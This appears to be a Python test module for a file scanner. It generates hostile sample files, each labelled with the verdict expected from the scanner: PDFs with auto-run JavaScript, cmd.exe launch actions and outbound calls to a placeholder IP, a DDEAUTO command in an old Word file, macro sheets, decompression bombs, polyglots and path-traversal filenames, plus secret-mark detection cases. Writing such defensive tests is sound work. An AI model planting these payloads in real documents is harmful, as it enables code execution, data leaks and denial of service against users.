"""Hostile PDF, pictures, old office files and texts; marks; names."""

import struct
import zlib

from duxing.files.tests import samples
from rigs.files.cases import (
    BROKEN,
    EMPTY,
    ENCODING,
    LOCKED,
    MACRO,
    MARK,
    NAME,
    PIXELS,
    SCRIPT,
    TOO_MUCH,
    UNLIKE,
    Case,
    Cases,
)  # fmt: skip
from rigs.files.material import (
    EXE,
    WORD,
    chunk,
    docx_body,
    docx_with,
    flood_jpeg,
    pdf_of,
    pdf_text,
    pdf_with,
    photo,
    png,
    sheet,
    stream,
    xlsx_with,
    zeros,
)  # fmt: skip

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_JS = b"<</S/JavaScript/JS(app.alert(1))>>"


def pdfs() -> Cases:
    """PDF that run, reach out, are locked, loop or blow up."""
    p = "通报.pdf"
    return [
        Case("打开时运行脚本", p, lambda: pdf_with(b"/OpenAction " + _JS), SCRIPT),
        Case("接在跳转之后的脚本", p, lambda: pdf_with(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next " + _JS + b">>"), SCRIPT),
        Case("名称树里的脚本", p, lambda: pdf_with(b"/Names<</JavaScript<</Names[(a) 10 0 R]>>>>", more={10: _JS}), SCRIPT),
        Case("文档事件里的脚本", p, lambda: pdf_with(b"/AA<</WC " + _JS + b">>"), SCRIPT),
        Case("页面事件里的脚本", p, lambda: pdf_with(page=b"/AA<</O " + _JS + b">>"), SCRIPT),
        Case("打开时启动程序", p, lambda: pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), SCRIPT),
        Case("批注启动程序", p, lambda: pdf_with(page=b"/Annots[<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]"), SCRIPT),
        Case("批注运行脚本", p, lambda: pdf_with(page=b"/Annots[10 0 R]", more={10: b"<</Subtype/Widget/A " + _JS + b">>"}), SCRIPT),
        Case("打开时连到别处", p, lambda: pdf_with(b"/OpenAction<</S/GoToE/F(\\\\\\\\192.0.2.1\\\\x.pdf)/D[0/Fit]>>"), SCRIPT),
        Case("打开时上送表单", p, lambda: pdf_with(b"/OpenAction<</S/SubmitForm/F(http://192.0.2.1)>>"), SCRIPT),
        Case("表单域里的脚本", p, lambda: pdf_with(b"/AcroForm<</Fields[<</T(a)/AA<</K " + _JS + b">>>>]>>"), SCRIPT),
        Case("可编程表单", p, lambda: pdf_with(b"/AcroForm<</Fields[]/XFA 10 0 R>>", more={10: stream(b"<x/>")}), SCRIPT),
        Case("内嵌文件", p, lambda: pdf_with(b"/Names<</EmbeddedFiles<</Names[(a.exe) 10 0 R]>>>>", more={10: b"<</F(a)>>"}), SCRIPT),
        Case("富媒体批注", p, lambda: pdf_with(page=b"/Annots[<</Subtype/RichMedia>>]"), SCRIPT),
        Case("打开要密码", p, lambda: samples.pdf(password="x"), LOCKED),
        Case("页树成环", p, lambda: pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 9>>"}), (BROKEN, TOO_MUCH)),
        Case("五千层页树", p, lambda: _deep_tree(5000), (BROKEN, TOO_MUCH)),
        Case("谎报二十亿页", p, lambda: pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 2147483647>>"}), (BROKEN, TOO_MUCH)),
        Case("交叉引用成环", p, lambda: _looping(), (BROKEN, TOO_MUCH)),
        Case("十万层括号", p, lambda: pdf_with(b"/X " + b"[" * 100_000 + b"]" * 100_000), (BROKEN, TOO_MUCH, SCRIPT)),
        Case("交叉引用流炸弹", p, _bomb_xref, (BROKEN, TOO_MUCH), heavy=True),
        Case("只有开头", p, lambda: b"%PDF-1.7\n", BROKEN),
        Case("程序改名为 PDF", p, lambda: EXE, UNLIKE),
        Case("开头之前有网页", p, lambda: HTML + samples.pdf(), UNLIKE),
        Case("PDF 兼压缩包", p, lambda: samples.pdf() + samples.zipped({"a.class": EXE}), UNLIKE),
    ]  # fmt: skip


def pictures() -> Cases:
    """Pictures that flood, hide something or are none."""
    return [
        Case("谎称三十六亿像素", "照片.png", lambda: png(60_000, 60_000, b"\0" * 1000), PIXELS),
        Case("四亿像素的真图", "照片.png", lambda: png(20_000, 20_000, zeros(382)), PIXELS),
        Case("谎称四十亿像素", "照片.jpg", lambda: flood_jpeg(65_000, 65_000), PIXELS),
        Case("文字块炸弹", "照片.png", _text_bomb, (UNLIKE, BROKEN, TOO_MUCH)),
        Case("截断的照片", "照片.jpg", lambda: photo()[:40_000], BROKEN),
        Case("只有开头的照片", "照片.jpeg", lambda: photo()[:20], (UNLIKE, BROKEN)),
        Case("截断的图", "图.png", lambda: png(100, 100, b"\0" * 10_100)[:60], (UNLIKE, BROKEN)),
        Case("数据不全的图", "图.png", lambda: png(2000, 2000, b"\0" * 100), BROKEN),
        Case("网页改名为照片", "照片.jpg", lambda: HTML, UNLIKE),
        Case("矢量图改名为图", "图.png", lambda: SVG, UNLIKE),
        Case("矢量图", "图.svg", lambda: SVG, "{name}"),
        Case("动图改名为照片", "照片.jpg", lambda: b"GIF89a" + b"\0" * 200, UNLIKE),
        Case("照片兼压缩包", "照片.jpg", lambda: photo((64, 64)) + samples.zipped({"a.class": EXE}), UNLIKE),
        Case("图兼压缩包", "图.png", lambda: samples.picture() + samples.zipped({"a.class": EXE}), UNLIKE),
        Case("图兼 PDF", "图.png", lambda: png(9, 9, b"\0" * 90, more=chunk(b"tEXt", samples.pdf())), UNLIKE),
    ]  # fmt: skip


def old_files() -> Cases:
    """The old formats of Word and Excel."""
    dde = samples.ole({"WordDocument": _word_base() + "\x13DDEAUTO c:\\cmd".encode("utf-16-le")})
    return [
        Case("旧文档带宏", "报告.doc", lambda: samples.old_doc(macro=True), MACRO),
        Case("旧文档有密码", "报告.doc", lambda: samples.old_doc(locked=True), LOCKED),
        Case("旧表格有密码", "台账.xls", lambda: samples.old_xls(locked=True), LOCKED),
        Case("旧表格的四代宏", "台账.xls", _old_macro_sheet, MACRO),
        Case("旧文档的动态数据交换", "报告.doc", lambda: dde, MACRO),
        Case("程序改名为旧文档", "报告.doc", lambda: EXE, UNLIKE),
        Case("旧文档只有开头", "报告.wps", lambda: samples.old_doc()[:600], (UNLIKE, BROKEN)),
        Case("扇区成环的旧文档", "报告.doc", lambda: _ole_loop(samples.old_doc()), BROKEN),
        Case("扇区成环的旧表格", "台账.xls", lambda: _ole_loop(samples.old_xls()), BROKEN),
        Case("表格改名为旧文档", "报告.doc", samples.old_xls, UNLIKE),
    ]


def texts() -> Cases:
    """Texts that are none, and marks wherever a document can carry one."""
    header = (
        f'<w:hdr xmlns:w="{WORD}"><w:p><w:r><w:t>机密★</w:t></w:r><w:r><w:t>10年</w:t></w:r></w:p></w:hdr>'
    )
    box = "<w:p><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>机密★</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"
    rows = "".join(f'<row r="{n}"><c t="inlineStr"><is><t>第{n}行</t></is></c></row>' for n in range(1, 400))
    late = rows + '<row r="400"><c t="inlineStr"><is><t>机密★</t></is></c></row>'
    foot = "</sheetData><headerFooter><oddHeader>&amp;C机密★</oddHeader></headerFooter><sheetData>"
    return [
        Case("程序改名为文本", "说明.txt", lambda: EXE, UNLIKE),
        Case("文本里有空字节", "说明.txt", lambda: b"abc\0def", UNLIKE),
        Case("读不出编码的文本", "说明.txt", lambda: b"\xff\xff\x81 \xfe\xfe", ENCODING),
        Case("文本里的半个代理字符", "说明.txt", lambda: "请阅".encode() + b"\xed\xa0\x80 \xff", ENCODING),
        Case("文本有密级标志", "通报.txt", lambda: "机密★10年\n请阅。".encode(), MARK),
        Case("国标编码的密级标志", "通报.txt", lambda: "机密★10年\n请阅。".encode("gb18030"), MARK),
        Case("双字节编码的密级标志", "通报.txt", lambda: "机密★10年".encode("utf-16"), MARK),
        Case("隔着零宽字符的密级标志", "通报.txt", lambda: "机\u200b密★".encode(), MARK),
        Case("正文的密级标志", "通报.docx", lambda: samples.docx("机密★10年", "请阅。"), MARK),
        Case("页眉的密级标志", "通报.docx", lambda: docx_with({"word/header9.xml": header}), MARK),
        Case("脚注的密级标志", "通报.docx", lambda: docx_with({"word/footnotes.xml": header}), MARK),
        Case("文本框的密级标志", "通报.docx", lambda: docx_body(box), MARK),
        Case("属性里的密级标志", "通报.docx", _titled, MARK),
        Case("第四百行的密级标志", "台账.xlsx", lambda: xlsx_with({"xl/worksheets/sheet1.xml": sheet(late)}), MARK),
        Case("表格页眉的密级标志", "台账.xlsx", lambda: xlsx_with({"xl/worksheets/sheet1.xml": sheet(foot)}), MARK, mark="机密★"),
        Case("旧文档的密级标志", "通报.doc", _old_marked, MARK),
        Case("PDF 的密级标志", "通报.pdf", lambda: pdf_text("机密★"), MARK),
        Case("公文版式文件的密级标志", "公文.ofd", _ofd_marked, MARK),
        Case("文件名的密级标志", "机密★通报.pdf", samples.pdf, MARK),
        Case("压缩包里的密级标志", "材料.zip", lambda: samples.zipped({"一/通报.docx": samples.docx("机密★")}), MARK),
        Case("空文件", "空.pdf", lambda: b"", EMPTY),
    ]  # fmt: skip


def names() -> Cases:
    """Names that no file may have; the content is sound."""
    bad = ["../../etc/报告.pdf", "con.pdf", "报告\u202efdp.pdf", "长" * 300 + ".pdf", "报告\x00.pdf", "报告\t.pdf",
           " 报告.pdf", "报告.pdf.", "LPT1.pdf", "a:b.pdf", "a|b.pdf", "报告\u200b.pdf"]  # fmt: skip
    return [Case(f"文件名{name[:12]!r}", name, samples.pdf, NAME) for name in bad]


def _deep_tree(depth: int) -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for number in range(2, depth):
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1)
    objects[depth] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (depth - 1)
    return pdf_of(objects)


def _looping() -> bytes:
    data = pdf_with()
    at = data.rindex(b"startxref\n") + 10
    start = data[at:].split(b"\n")[0]
    trailer = data.rindex(b"trailer\n<<") + 10
    return data[:trailer] + b"/Prev %s" % start + data[trailer:].replace(b"/Root 1 0 R", b"/Root 99 0 R")


def _bomb_xref() -> bytes:
    packed = zlib.compress(zlib.compress(zeros(700), 9), 9)
    words = b"/Type/XRef/Size 9/W[1 4 2]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]"
    head = b"%PDF-1.7\n"
    return head + b"5 0 obj\n" + stream(packed, words) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def _text_bomb() -> bytes:
    packed = b"a\0\0" + zlib.compress(zeros(100), 9)
    return png(40, 30, b"\0" * 41 * 30, more=chunk(b"zTXt", packed) * 40)


def _word_base() -> bytes:
    return struct.pack("<HHHHHH", 0xA5EC, 193, 0, 0x0804, 0, 0).ljust(512, b"\0")


def _old_marked() -> bytes:
    return samples.ole({"WordDocument": _word_base() + "机密★10年\r请阅。".encode("utf-16-le")})


def _old_macro_sheet() -> bytes:
    begin = struct.pack("<HH16s", 0x0809, 16, b"")
    hidden = struct.pack("<HHIBBB4s", 0x0085, 11, 0, 1, 1, 4, b"\0abc")
    return samples.ole({"Workbook": begin + hidden + struct.pack("<HH", 0x000A, 0)})


def _ole_loop(data: bytes) -> bytes:
    """The sector of the directory follows itself: some readers go round for ever and keep what they read."""
    looped = bytearray(data)
    struct.pack_into("<I", looped, 512 + 4, 1)
    return bytes(looped)


def _titled() -> bytes:
    core = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
    dc = "http://purl.org/dc/elements/1.1/"
    words = f'<c:coreProperties xmlns:c="{core}" xmlns:d="{dc}"><d:title>机密★</d:title></c:coreProperties>'
    return docx_with({"docProps/core.xml": words})


def _ofd_marked() -> bytes:
    page = '<o:Page xmlns:o="http://www.ofdspec.org/2016"><o:TextObject><o:TextCode>机密★</o:TextCode></o:TextObject></o:Page>'
    return samples.zipped({"OFD.xml": "<ofd/>", "Doc_0/Pages/Page_0/Content.xml": page})
